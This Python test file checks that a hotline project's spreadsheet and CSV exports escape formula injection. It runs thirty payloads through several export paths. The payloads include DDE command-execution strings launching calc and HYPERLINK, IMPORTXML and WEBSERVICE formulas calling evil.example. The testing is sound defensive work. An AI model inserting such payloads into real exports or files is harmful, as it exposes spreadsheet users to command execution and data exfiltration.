"""Promise 35: no text of any export is a formula, whatever anybody wrote: thirty payloads."""

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import load_workbook

from hotline.editing.workbook import write_entries
from hotline.opendata.hsds.book import Book
from hotline.opendata.hsds.package import csv_text
from hotline.opendata.hsds.tables import tables
from hotline.portal.rotation import Rotation, Share
from hotline.portal.sunshine_files import turns_csv
from hotline.sheets import Column, Kind, Sheet, write_workbook

ROOT = Path(__file__).parents[2]
PAYLOADS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","点这里")',
    '=IMPORTXML("http://evil.example","//a")', '=WEBSERVICE("http://evil.example")',
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink\")", "=A1", "==1", "=\u200b1+1", "= 1+1",
    "+1+cmd|' /C calc'!A0", "+A1", "+SUM(1,1)", "-2+3+cmd|' /C calc'!A0", "-A1", "-SUM(A1:A9)",
    "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   +A1",
    "\x00=1+1", "\x0b@A1", "＝1+1", "＋A1", "－A1", "＠SUM(A1)", " ＝cmd|' /C calc'!A0",
)  # fmt: skip
_COMPUTED = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


def is_formula(text: object) -> bool:
    return str(text).lstrip(" \t\r\n\x00\x0b").startswith(_COMPUTED)


def of_workbook(content: bytes) -> list[object]:
    cells = [
        cell
        for page in load_workbook(io.BytesIO(content)).worksheets
        for row in page.iter_rows()
        for cell in row
        if cell.value is not None
    ]
    assert not any(cell.data_type == "f" for cell in cells)
    return [cell.value for cell in cells]


def of_csv(content: str) -> list[object]:
    return [cell for row in csv.reader(io.StringIO(content.lstrip("\ufeff"))) for cell in row]


def sheet(text: str) -> list[object]:
    """As settlement, statistics, rosters, forms and exports with personal data are written."""
    page = Sheet("甲", [Column(text), Column("数", Kind.COUNT)], [[text, 1]], title=text,
                 notes=[text], total=[text, 1])  # fmt: skip
    return of_workbook(write_workbook([page]))


def entries(text: str) -> list[object]:
    return of_workbook(write_entries([{"name": text, "aliases": [text], "summary": text}]))


def open_data(text: str) -> list[object]:
    return [
        cell
        for table in tables().values()
        for cell in of_csv(
            csv_text(Book({table.name: [{column.name: text for column in table.columns}]}), table)
        )
    ]


def sunshine(text: str) -> list[object]:
    return of_csv(turns_csv([Rotation("2026-11", text, (Share(1, 2, 1, 50.0),))]))


MAKERS: tuple[Callable[[str], list[object]], ...] = (sheet, entries, open_data, sunshine)


def test_there_are_thirty_payloads() -> None:
    assert len(set(PAYLOADS)) == 30
    assert all(map(is_formula, PAYLOADS))


@pytest.mark.parametrize("maker", MAKERS)
def test_no_cell_of_an_export_is_a_formula(maker: Callable[[str], list[object]]) -> None:
    for text in PAYLOADS:
        cells = maker(text)
        assert any("'" in str(cell) for cell in cells), text
        assert [cell for cell in cells if is_formula(cell)] == [], text


def test_every_export_is_made_by_one_of_these() -> None:
    """Workbooks by one module; each CSV by a module that guards its texts. The carrier's is none
    of ours: it speaks as the provider's API does."""
    sources = {
        path.relative_to(ROOT).as_posix(): path.read_text(encoding="utf-8")
        for path in (ROOT / "hotline").rglob("*.py")
    }
    makes = re.compile(r"\bWorkbook\(\)")
    makers = {name for name, source in sources.items() if makes.search(source)}
    assert makers == {"hotline/sheets/writing.py"}
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    assert {
        name
        for name, source in sources.items()
        if writers.search(source) and "guarded" not in source
    } == {"hotline/carrier/rest/representations.py"}
